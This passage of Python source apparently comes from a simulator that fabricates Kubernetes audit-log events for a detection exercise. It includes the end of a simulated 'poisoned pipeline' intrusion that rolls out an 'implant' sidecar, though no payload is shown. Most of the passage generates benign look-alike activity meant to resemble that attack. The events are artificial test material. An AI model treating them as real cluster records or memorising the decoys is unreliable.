        ci,
        "patch",
        f"{path}?{query}",
        after=0.3,
        request=body,
        response=k8s._stored(manifest, t.now),
    )
    _rollout(t, "sidecar_rollout", manifest, ("implant", str(run)))


def _rollout(t: Intrusion, stage: str, manifest: dict[str, Any], key: tuple[str, ...]) -> None:
    """The deployment controller's new ReplicaSet after a template change."""
    name = manifest["metadata"]["name"]
    namespace = manifest["metadata"]["namespace"]
    template = k8s._suffix(10, name, str(t.ctx.seed), *key)
    labels = {"app": name, "pod-template-hash": template}
    replicaset: dict[str, Any] = {
        "kind": "ReplicaSet",
        "apiVersion": "apps/v1",
        "metadata": k8s._meta(
            f"{name}-{template}",
            namespace,
            labels=labels,
            ownerReferences=k8s._owner("Deployment", name, "apps/v1"),
        ),
        "spec": {
            "replicas": 1,
            "selector": {"matchLabels": labels},
            "template": {
                "metadata": {"labels": labels},
                "spec": copy.deepcopy(manifest["spec"]["template"]["spec"]),
            },
        },
    }
    t.emit(
        stage,
        k8s._CALLERS["ctrl:deployment-controller"][0],
        "create",
        f"{APPS_API}/namespaces/{namespace}/replicasets",
        after=0.2,
        request=replicaset,
        response=created(replicaset, t.now),
        code=201,
        name=replicaset["metadata"]["name"],
    )


# --------------------------------------------------------------------------- look-alikes


def _ci(f: Family, helm: bool = False) -> k8s._Who:
    return k8s._ci(f.rng, k8s._HELM if helm else k8s._CI_KUBECTL)


def _sre(f: Family) -> k8s._Who:
    return k8s._human(env.person(f.rng.choice(k8s._SRES)), f.rng)


def _deployment_of(name: str, namespace: str, image: str) -> dict[str, Any]:
    """A Deployment's manifest: an application's own, or a platform tool's."""
    app = next((a for a in k8s._APPS if a.name == name), None)
    manifest = k8s._deployment(app or k8s._App(name, namespace, "", "", "", (1,), ""), image)
    manifest["metadata"]["namespace"] = namespace
    return manifest


def _apply_patch(
    f: Family, who: k8s._Who, path: str, manager: str, patch: Any, response: Any, *, after: float
) -> None:
    """GET then PATCH of one object, as kubectl apply, kubectl patch and helm send it."""
    f.emit(f.name, who, "get", path, after=after)
    query = f"fieldManager={manager}" + (
        "&fieldValidation=Strict" if manager.startswith("kubectl") else ""
    )
    f.emit(f.name, who, "patch", f"{path}?{query}", after=0.3, request=patch, response=response)


#: Node-level tooling: (name, namespace, image without tag, tags, argv, who rolls it out).
_PLATFORM_DAEMONSETS = (
    (
        "node-problem-detector",
        "kube-system",
        f"{k8s._REGISTRY}/mirror/node-problem-detector",
        ("v0.8.18", "v0.8.19"),
        "--logtostderr --config.system-log-monitor=/config/kernel-monitor.json"
        " --prometheus-address=0.0.0.0 --prometheus-port=20257",
        "ci",
    ),
    (
        "fluent-bit",
        "monitoring",
        f"{k8s._REGISTRY}/mirror/fluent-bit",
        ("3.0.6", "3.0.7"),
        "--workdir=/fluent-bit/etc --config=/fluent-bit/etc/conf/fluent-bit.conf",
        "helm",
    ),
    (
        "secrets-store-csi-driver",
        "kube-system",
        f"{k8s._MCR}/oss/kubernetes-csi/secrets-store/driver",
        ("v1.4.3", "v1.4.4"),
        "--endpoint=$(CSI_ENDPOINT) --nodeid=$(KUBE_NODE_NAME)"
        " --provider-volume=/var/run/secrets-store-csi-providers --metrics-addr=:8095",
        "aks",
    ),
    (
        "node-local-dns",
        "kube-system",
        f"{k8s._REGISTRY}/mirror/k8s-dns-node-cache",
        ("1.23.0", "1.23.1"),
        "-localip 169.254.20.10 -conf /etc/Corefile -upstreamsvc kube-dns-upstream",
        "ci",
    ),
    (
        "kured",
        "kube-system",
        f"{k8s._REGISTRY}/mirror/kured",
        ("1.15.0", "1.15.1"),
        "--ds-name=kured --ds-namespace=kube-system --period=1h --start-time=22:00",
        "helm",
    ),
    (
        "contoso-node-tuner",
        "kube-system",
        f"{k8s._REGISTRY}/platform/node-tuner",
        ("2.4.0", "2.4.1"),
        "--profile=aks-web --sysctl=net.core.somaxconn=4096 --interval=10m",
        "ci",
    ),
    (
        "otel-node-agent",
        "monitoring",
        f"{k8s._REGISTRY}/platform/otel-collector",
        ("0.101.0", "0.102.1"),
        "--config=/conf/agent.yaml --set=service.telemetry.logs.level=warn",
        "helm",
    ),
    (
        "ama-metrics-node",
        "kube-system",
        f"{k8s._MCR}/azuremonitor/containerinsights/ciprod/prometheus-collector/images",
        ("6.8.3-main-06-14-2024-a3bd7bc8", "6.8.4-main-07-02-2024-bd4bf5a9"),
        "--mode=node --cluster=aks-prod",
        "aks",
    ),
)


def _platform_daemonsets(f: Family) -> None:
    """CI, helm and AKS's reconciler install and upgrade node-level DaemonSets: every node,
    tolerating every taint, with a system priority class."""
    for moment in f.times(2, 3):
        f.at(moment)
        name, namespace, repo, tags, line, by = f.rng.choice(_PLATFORM_DAEMONSETS)
        args = line.split()
        who = k8s._CALLERS["aks-rp"][0] if by == "aks" else _ci(f, helm=by == "helm")
        tag = f.rng.choice(tags)
        image = f"{repo}:{tag}"
        container: dict[str, Any] = {
            "name": name,
            "image": image,
            "args": list(args),
            "resources": {
                "requests": {"cpu": f.rng.choice(("20m", "50m", "100m")), "memory": "64Mi"}
            },
        }
        labels = {"app.kubernetes.io/name": name}
        manifest = {
            "apiVersion": "apps/v1",
            "kind": "DaemonSet",
            "metadata": {"name": name, "namespace": namespace, "labels": labels},
            "spec": {
                "selector": {"matchLabels": labels},
                "template": {
                    "metadata": {"labels": labels},
                    "spec": {
                        "tolerations": copy.deepcopy(f.rng.choice(_TOLERATIONS)),
                        "priorityClassName": f.rng.choice(
                            ("system-node-critical", "system-cluster-critical")
                        ),
                        "containers": [container],
                    },
                },
            },
        }
        collection = f"{APPS_API}/namespaces/{namespace}/daemonsets"
        if f.rng.random() < 0.3 and by == "ci":  # a new tool: kubectl apply creates it
            f.emit(f.name, who, "get", f"{collection}/{name}", code=404)
            body = _with_last_applied(manifest)
            f.emit(
                f.name,
                who,
                "create",
                f"{collection}?{CI_APPLY}",
                after=0.3,
                request=body,
                response=created(body, f.now),
                code=201,
                name=name,
            )
            when = f.now
            for node in range(len(k8s._NODES)):
                pod = f"{name}-{k8s._suffix(5, name, str(node), k8s._ts(moment))}"
                when = f.day().create_pod(
                    k8s._CALLERS["ctrl:daemon-set-controller"][0],
                    k8s._PodShape("default", image, (name, *args), container=name),
                    pod,
                    namespace,
                    node,
                    k8s._owner("DaemonSet", name, "apps/v1"),
                    {**labels, "app": name},
                    when + dt.timedelta(seconds=f.rng.uniform(0.1, 0.5)),
                )
            f.file(f.name)
            continue
        patch: dict[str, Any] = {
            "spec": {"template": {"spec": {"containers": [{"name": name, "image": image}]}}}
        }
        manager = "kubectl-client-side-apply" if by == "ci" else "helm"
        if by == "ci":
            patch["metadata"] = {"annotations": {LAST_APPLIED: json.dumps(manifest)}}
        if by == "aks":
            f.emit(
                f.name,
                who,
                "patch",
                f"{collection}/{name}",
                request=patch,
                response=k8s._TOO_BIG,
            )
            continue
        _apply_patch(f, who, f"{collection}/{name}", manager, patch, k8s._TOO_BIG, after=5)


#: CI's batch Jobs: (name, namespace, image path, argv, parallelism choices).
_BATCH_JOBS = (
    ("db-migrate", "api", "api/backend-migrations", "python -m alembic upgrade head", (1,)),
    (
        "cache-warmer",
        "api",
        "api/cache-warmer",
        "/app/warm --url=redis-master.api.svc.cluster.local:6379 --keys=catalog:* -c 8",
        (1, 2),
    ),
    (
        "load-test",
        "web",
        "platform/locust",
        "locust -f /mnt/locust/locustfile.py --headless -u 50 -r 5"
        " --host http://frontend.web.svc.cluster.local:8080 --run-time 10m",
        (2, 4, 6),
    ),
    (
        "report-export",
        "api",
        "api/reports",
        "python -m reports.export --since=24h -o /exports/daily.csv",
        (1,),
    ),
    (
        "search-reindex",
        "api",
        "api/search-indexer",
        "/app/reindex --source=postgres://backend-db.api.svc:5432/shop --batch=500 -u indexer",
        (1, 3),
    ),
    ("smoke-test", "web", "platform/k6", "k6 run --vus 20 --duration 2m /scripts/smoke.js", (1,)),
)


def _ci_batch_jobs(f: Family) -> None:
    """CI submits Jobs: migrations, cache warmers, load and smoke tests, exports. Their
    arguments carry URLs, host:port pairs and user counts; the job controller starts their
    pods, several at once for load tests."""
    for moment in f.times(2, 4):
        f.at(moment)
        base, namespace, image_path, line, parallel = f.rng.choice(_BATCH_JOBS)
        argv = tuple(line.split())
        ci = _ci(f, helm=f.rng.random() < 0.3)
        name = f"{base}-{moment:%Y%m%d-%H%M}"
        parallelism = f.rng.choice(parallel)
        image = (
            f"{k8s._REGISTRY}/{image_path}:{f.rng.choice(('1.4.2', '1.5.0', '2.0.1', 'stable'))}"
        )
        job: dict[str, Any] = {
            "apiVersion": "batch/v1",
            "kind": "Job",
            "metadata": {"name": name, "namespace": namespace, "labels": {"app": base}},
            "spec": {
                "parallelism": parallelism,
                "completions": parallelism,
                "backoffLimit": 1,
                "ttlSecondsAfterFinished": 3600,
                "template": {
                    "metadata": {"labels": {"app": base}},
                    "spec": {
                        "restartPolicy": "Never",
                        "containers": [{"name": base, "image": image, "args": list(argv)}],
                    },
                },
            },
        }
        collection = f"{BATCH_API}/namespaces/{namespace}/jobs"
        query = "fieldManager=helm" if ci.agent == k8s._HELM else KUBECTL_CREATE
        f.emit(
            f.name,
            ci,
            "create",
            f"{collection}?{query}",
            request=job,
            response=created(job, f.now),
            code=201,
            name=name,
        )
        when = f.now + dt.timedelta(seconds=0.2)
        for index in range(parallelism):
            pod = f"{name}-{k8s._suffix(5, name, str(f.ctx.seed), str(index))}"
            f.day().create_pod(
                k8s._CALLERS["ctrl:job-controller"][0],
                k8s._PodShape("default", image, argv, container=base),
                pod,
                namespace,
                k8s._pod_node(pod),
                k8s._owner("Job", name, "batch/v1"),
                {"app": base, "job-name": name},
                when + dt.timedelta(seconds=f.rng.uniform(0.02, 0.3)),
            )
        f.file(f.name)


#: Deployments SREs change by hand.
_PATCHED: tuple[tuple[str, str], ...] = (
    ("frontend", "web"),
    ("backend", "api"),
    ("frontend", "web"),
    ("backend", "api"),
    ("prometheus-server", "monitoring"),
)


def _engineer_patches(f: Family) -> None:
    """SREs change Deployments by hand: set image (a rollback to an earlier build), set env,
    set resources, scale, rollout restart, edit."""
    for moment in f.times(2, 3):
        f.at(moment)
        who = _sre(f)
        name, namespace = f.rng.choice(_PATCHED)
        path = f"{APPS_API}/namespaces/{namespace}/deployments/{name}"
        action = f.rng.choice(("set-image", "set-env", "resources", "scale", "restart", "edit"))
        day = (moment - f.ctx.start).days
        build = f"{f.ctx.day_start(day - 1):%Y.%m.%d}-{env.stable_hex(7, str(f.ctx.seed), name, str(day))}"
        image = (
            f"{k8s._REGISTRY}/{namespace}/{name}:{build}"
            if namespace != "monitoring"
            else f"{k8s._REGISTRY}/mirror/prometheus:v2.51.{f.rng.randint(1, 2)}"
        )
        container: dict[str, Any] = {"name": name}
        body: dict[str, Any]
        if action == "set-image":
            container["image"] = image
            manager, body = (
                "kubectl-set",
                {"spec": {"template": {"spec": {"containers": [container]}}}},
            )
        elif action == "set-env":
            container["env"] = [
                {
                    "name": f.rng.choice(("LOG_LEVEL", "FEATURE_FLAGS", "HTTP_TIMEOUT")),
                    "value": f.rng.choice(("debug", "info", "30s", "checkout-v2")),
                }
            ]
            manager, body = (
                "kubectl-set",
                {"spec": {"template": {"spec": {"containers": [container]}}}},
            )
        elif action == "resources":
            container["resources"] = {
                "requests": {"cpu": f.rng.choice(("250m", "500m")), "memory": "512Mi"},
                "limits": {"memory": f.rng.choice(("1Gi", "768Mi"))},
            }
            manager, body = (
                "kubectl-set",
                {"spec": {"template": {"spec": {"containers": [container]}}}},
            )
        elif action == "scale":
            scale = {
                "kind": "Scale",
                "apiVersion": "autoscaling/v1",
                "metadata": {"name": name, "namespace": namespace},
                "spec": {"replicas": f.rng.choice((2, 4, 5, 6))},
            }
            f.emit(f.name, who, "get", path)
            f.emit(
                f.name,
                who,
                "patch",
                f"{path}/scale?{KUBECTL_PATCH}",
                after=0.3,
                request={"spec": scale["spec"]},
                response=scale,
            )
            continue
        elif action == "restart":
            stamp = k8s._ts(moment).replace("Z", "+00:00")
            manager = "kubectl-rollout"
            body = {
                "spec": {
                    "template": {
                        "metadata": {"annotations": {"kubectl.kubernetes.io/restartedAt": stamp}}
                    }
                }
            }
        else:
            manifest = _deployment_of(name, namespace, image)
            manifest["spec"]["template"]["spec"]["containers"][0]["env"] = [
                {"name": "LOG_LEVEL", "value": "debug"}
            ]
            f.emit(f.name, who, "get", path)
            f.emit(
                f.name,
                who,
                "update",
                f"{path}?fieldManager=kubectl-edit&fieldValidation=Strict",
                after=f.rng.uniform(20, 120),
                request=manifest,
                response=k8s._stored(manifest, f.now),
            )
            continue
        _apply_patch(f, who, path, manager, body, k8s._TOO_BIG, after=1)


#: Sidecars and init containers from approved registries: (name, image, argv, init?).
_SIDECARS = (
    (
        "fluent-bit",
        f"{k8s._REGISTRY}/mirror/fluent-bit:3.0.7",
        "-i tail -p path=/var/log/app/*.log -o forward"
        " -p host=fluentd.monitoring.svc.cluster.local -p port=24224",
        False,
    ),
    (
        "istio-proxy",
        f"{k8s._MCR}/oss/istio/proxyv2:1.22.3-distroless",
        "proxy sidecar --domain $(POD_NAMESPACE).svc.cluster.local --proxyLogLevel=warning",
        False,
    ),
    (
        "istio-init",
        f"{k8s._MCR}/oss/istio/proxyv2:1.22.3-distroless",
        "istio-iptables -p 15001 -z 15006 -u 1337 -m REDIRECT -i * -b *",
        True,
    ),
    (
        "otel-agent",
        f"{k8s._REGISTRY}/platform/otel-collector:0.102.1",
        "--config=/conf/agent.yaml",
        False,
    ),
    (
        "log-forwarder",
        f"{k8s._REGISTRY}/platform/log-forwarder:1.4.2",
        "--forward http://log-gateway.monitoring.svc.cluster.local:8080/ingest"
        " --tail=/var/log/app/*.log",
        False,
    ),
    (
        "envoy",
        f"{k8s._MCR}/oss/envoyproxy/envoy:v1.30.2",
        "-c /etc/envoy/envoy.yaml --service-cluster $(APP_NAME)",
        False,
    ),
    (
        "vault-agent-init",
        f"{k8s._REGISTRY}/mirror/vault:1.17.2",
        "agent -config=/vault/config/agent-init.hcl -exit-after-auth",
        True,
    ),
)
_TARGET_IMAGES = {
    "frontend": f"{k8s._REGISTRY}/web/frontend:stable",
    "backend": f"{k8s._REGISTRY}/api/backend:stable",
    "prometheus-server": f"{k8s._REGISTRY}/mirror/prometheus:v2.51.1",
}
_SIDECAR_TARGETS = (
    ("frontend", "web"),
    ("backend", "api"),
    ("prometheus-server", "monitoring"),
)


def _sidecar_rollouts(f: Family) -> None:
    """CI and helm add or upgrade sidecars and init containers (log shippers, mesh proxies,
    agents) from Contoso's registry and MCR; the deployment controller rolls them out."""
    for moment in f.times(1, 3):
        f.at(moment)
        name, image, line, init = f.rng.choice(_SIDECARS)
        target, namespace = f.rng.choice(_SIDECAR_TARGETS)
        method = f.rng.choice(("helm", "apply", "json"))
        who = _ci(f, helm=method == "helm")
        field = "initContainers" if init else "containers"
        container = {"name": name, "image": image, "args": line.split()}
        manifest = _deployment_of(target, namespace, _TARGET_IMAGES[target])
        manifest["spec"]["template"]["spec"].setdefault(field, []).append(container)
        path = f"{APPS_API}/namespaces/{namespace}/deployments/{target}"
        body: Any
        if method == "json":
            body = [
                {
                    "op": "add",
                    "path": f"/spec/template/spec/{field}" + ("/-" if not init else ""),
                    "value": container if not init else [container],
                }
            ]
            manager = "kubectl-patch"
        else:
            spec: dict[str, Any] = {field: [container]}
            if not init:
                spec["$setElementOrder/containers"] = [{"name": target}, {"name": name}]
            body = {"spec": {"template": {"spec": spec}}}
            manager = "helm"
            if method == "apply":
                body["metadata"] = {"annotations": {LAST_APPLIED: json.dumps(manifest)}}
                manager = "kubectl-client-side-apply"
        _apply_patch(f, who, path, manager, body, k8s._stored(manifest, f.now), after=2)
        _rollout(f, f.name, manifest, (f.name, k8s._ts(moment)))


#: Policies CI keeps in git for several namespaces: name -> spec.
def _policy_specs() -> dict[str, dict[str, Any]]:
    dns = {
        "to": [{"namespaceSelector": {}, "podSelector": {"matchLabels": {"k8s-app": "kube-dns"}}}],
        "ports": [{"protocol": "UDP", "port": 53}, {"protocol": "TCP", "port": 53}],
    }
    return {
        "default-deny-all": {"podSelector": {}, "policyTypes": ["Ingress", "Egress"]},
        "default-deny-ingress": {"podSelector": {}, "policyTypes": ["Ingress"]},
        "allow-dns-egress": {"podSelector": {}, "policyTypes": ["Egress"], "egress": [dns]},
        "allow-same-namespace": {
            "podSelector": {},
            "policyTypes": ["Ingress"],
            "ingress": [{"from": [{"podSelector": {}}]}],
        },
        "allow-prometheus-scrape": {
            "podSelector": {},
            "policyTypes": ["Ingress"],
            "ingress": [
                {
                    "from": [
                        {
                            "namespaceSelector": {
                                "matchLabels": {"kubernetes.io/metadata.name": "monitoring"}
                            },
                            "podSelector": {"matchLabels": {"app": "prometheus-server"}},
                        }
                    ],
                    "ports": [{"protocol": "TCP", "port": 9090}, {"protocol": "TCP", "port": 8080}],
                }
            ],
        },
        "allow-https-egress": {
            "podSelector": {"matchLabels": {"egress": "internet"}},
            "policyTypes": ["Egress"],
            "egress": [
                {
                    "to": [
                        {
                            "ipBlock": {
                                "cidr": "0.0.0.0/0",
                                "except": ["10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16"],
                            }
                        }
                    ],
                    "ports": [{"protocol": "TCP", "port": 443}],
                }
            ],
        },
        "allow-egress-database": {
            "podSelector": {},
            "policyTypes": ["Egress"],
            "egress": [
                {
                    "to": [{"ipBlock": {"cidr": "10.1.3.4/32"}}],
                    "ports": [{"protocol": "TCP", "port": 5432}],
                }
            ],
        },
        "allow-azure-monitor": {
            "podSelector": {},
            "policyTypes": ["Egress"],
            "egress": [
                {
                    "to": [{"ipBlock": {"cidr": "10.224.0.0/16"}}],
                    "ports": [{"protocol": "TCP", "port": 443}],
                }
            ],
        },
    }


_POLICY_SPECS = _policy_specs()
_POLICY_NAMESPACES = ("web", "api", "monitoring", "default", "gatekeeper-system")


def _policy(name: str, namespace: str, spec: dict[str, Any]) -> dict[str, Any]:
    return {
        "apiVersion": "networking.k8s.io/v1",
        "kind": "NetworkPolicy",
        "metadata": {"name": name, "namespace": namespace},
        "spec": copy.deepcopy(spec),
    }


def _ci_network_policies(f: Family) -> None:
    """CI creates and re-applies NetworkPolicies across namespaces: default-deny, DNS,
    same-namespace, scrape, database and HTTPS-out policies."""
    for moment in f.times(2, 4):
        f.at(moment)
        helm = f.rng.random() < 0.3
        who = _ci(f, helm=helm)
        namespace = f.rng.choice(_POLICY_NAMESPACES)
        for name in f.rng.sample(sorted(_POLICY_SPECS), f.rng.randint(1, 3)):
            policy = _policy(name, namespace, _POLICY_SPECS[name])
            collection = f"{NETWORKING}/namespaces/{namespace}/networkpolicies"
            if f.rng.random() < 0.4:
                f.emit(f.name, who, "get", f"{collection}/{name}", after=1, code=404)
                body = policy if helm else _with_last_applied(policy)
                f.emit(
                    f.name,
                    who,
                    "create",
                    f"{collection}?" + ("fieldManager=helm" if helm else CI_APPLY),
                    after=0.3,
                    request=body,
                    response=created(body, f.now),
                    code=201,
                    name=name,
                )
            else:
                patch: dict[str, Any] = {"spec": policy["spec"]}
                if not helm:
                    patch["metadata"] = {"annotations": {LAST_APPLIED: json.dumps(policy)}}
                _apply_patch(
                    f,
                    who,
                    f"{collection}/{name}",
                    "helm" if helm else "kubectl-client-side-apply",
                    patch,
                    k8s._stored(policy, f.now),
                    after=1,
                )


#: Policies being renamed or merged: (old name, namespace, new name).
#: Refactors proposed in pull requests, of policies that exist: (old, namespace, new).
_PROPOSED = (
    ("frontend-allow-ingress", "web", "web-frontend-ingress"),
    ("backend-allow-egress", "api", "api-backend-egress"),
    ("api-default-deny", "api", "default-deny-all"),
)
#: Refactors merged before the window: the old policies are gone.
_MERGED = (
    ("allow-all-internal", "api", "allow-same-namespace"),
    ("web-legacy-ingress", "web", "allow-from-gateway"),
    ("monitoring-allow-scrape-old", "monitoring", "allow-prometheus-scrape"),
    ("allow-egress-sql-v1", "api", "allow-egress-database"),
)


def _policy_refactors(f: Family) -> None:
    """Refactors of the policies: PR validation runs them as server-side dry runs (a
    dry-run create of the replacement, a dry-run delete of the old policy); after the
    merge, each deploy re-applies the replacement and deletes the old name with
    --ignore-not-found, which finds nothing left."""
    for moment in f.times(1, 2):
        f.at(moment)
        proposed = f.rng.random() < 0.5
        old, namespace, new = f.rng.choice(_PROPOSED if proposed else _MERGED)
        who = _ci(f)
        collection = f"{NETWORKING}/namespaces/{namespace}/networkpolicies"
        spec = _POLICY_SPECS.get(new, _POLICY_SPECS["allow-same-namespace"])
        replacement = _policy(new, namespace, spec)
        if proposed:  # PR validation
            f.emit(f.name, who, "get", f"{collection}/{new}", code=404)
            f.emit(
                f.name,
                who,
                "create",
                f"{collection}?dryRun=All&{CI_APPLY}",
                after=0.3,
                request=_with_last_applied(replacement),
                response=created(replacement, f.now),
                code=201,
                name=new,
            )
            options = {**k8s._delete_options(), "dryRun": ["All"]}
            f.emit(
                f.name,
                who,
                "delete",
                f"{collection}/{old}?dryRun=All",
                after=0.5,
                request=options,
                response=k8s._deleted("networkpolicies", old),
            )
        else:  # the merged refactor, re-run by every deploy
            patch = {
                "metadata": {"annotations": {LAST_APPLIED: json.dumps(replacement)}},
                "spec": replacement["spec"],
            }
            _apply_patch(
                f,
                who,
                f"{collection}/{new}",
                "kubectl-client-side-apply",
                patch,
                k8s._stored(replacement, f.now),
                after=1,
            )
            f.emit(
                f.name,
                who,
                "delete",
                f"{collection}/{old}",
                after=0.5,
                request=k8s._delete_options(),
                code=404,
            )


def _preview_environments(f: Family) -> None:
    """Per pull request, CI creates a preview namespace with the frontend, a default-deny
    policy and an ingress policy; hours later it deletes the namespace and the namespace
    controller removes what was in it, policies included."""
    cleaner = k8s._CALLERS["ctrl:namespace-controller"][0]
    for moment in f.times(1, 2):
        f.at(moment)
        ci = _ci(f)
        number = f.rng.randint(1400, 1999)
        namespace = f"pr-{number}"
        namespace_obj = {
            "kind": "Namespace",
            "apiVersion": "v1",
            "metadata": {"name": namespace, "labels": {"preview": "true"}},
        }
        f.emit(
            f.name,
            ci,
            "create",
            f"/api/v1/namespaces?{KUBECTL_CREATE}",
            request=namespace_obj,
            response=created(namespace_obj, f.now),
            code=201,
            name=namespace,
        )
        for name, spec in (
            ("default-deny-all", _POLICY_SPECS["default-deny-all"]),
            ("allow-same-namespace", _POLICY_SPECS["allow-same-namespace"]),
            ("allow-dns-egress", _POLICY_SPECS["allow-dns-egress"]),
        ):
            policy = _with_last_applied(_policy(name, namespace, spec))
            f.emit(
                f.name,
                ci,
                "create",
                f"{NETWORKING}/namespaces/{namespace}/networkpolicies?{CI_APPLY}",
                after=0.4,
                request=policy,
                response=created(policy, f.now),
                code=201,
                name=name,
            )
        app = k8s._APPS[0]
        image = f"{k8s._REGISTRY}/web/frontend:pr-{number}-{env.stable_hex(7, namespace, str(f.ctx.seed))}"
        manifest = k8s._deployment(app, image)
        manifest["metadata"]["namespace"] = namespace
        manifest["spec"]["replicas"] = 1
        body = _with_last_applied(manifest)
        f.emit(
            f.name,
            ci,
            "create",
            f"{APPS_API}/namespaces/{namespace}/deployments?{CI_APPLY}",
            after=0.4,
            request=body,
            response=created(body, f.now),
            code=201,
            name=app.name,
        )
        _rollout(f, f.name, manifest, (namespace,))
        # Teardown when the pull request closes.
        f.at(
            min(
                moment + dt.timedelta(hours=f.rng.uniform(1, 6)),
                f.ctx.end - dt.timedelta(minutes=10),
            )
        )
        f.emit(
            f.name,
            ci,
            "delete",
            f"/api/v1/namespaces/{namespace}",
            request=k8s._delete_options(),
            response=k8s._TOO_BIG,
        )
        for resource, group in (
            ("networkpolicies", NETWORKING),
            ("deployments", APPS_API),
            ("replicasets", APPS_API),
            ("pods", "/api/v1"),
        ):
            f.emit(
                f.name,
                cleaner,
                "deletecollection",
                f"{group}/namespaces/{namespace}/{resource}",
                after=0.3,
                request=k8s._delete_options(),
            )


_FAMILIES: dict[str, Callable[[Family], None]] = {
    "platform_daemonsets": _platform_daemonsets,
    "ci_batch_jobs": _ci_batch_jobs,
    "engineer_patches": _engineer_patches,
    "sidecar_rollouts": _sidecar_rollouts,
    "ci_network_policies": _ci_network_policies,
    "policy_refactors": _policy_refactors,
    "preview_environments": _preview_environments,
}


@lookalikes(CAMPAIGN, tuple(_FAMILIES))
def aks_poisoned_pipeline_lookalikes(ctx: SimContext) -> Stages:
    """Each family's benign events, filed under the family's name."""
    stages: Stages = {}
    for name, make in _FAMILIES.items():
        family = Family(ctx, CAMPAIGN, name)
        make(family)
        stages.update(family.stages)
    return stages
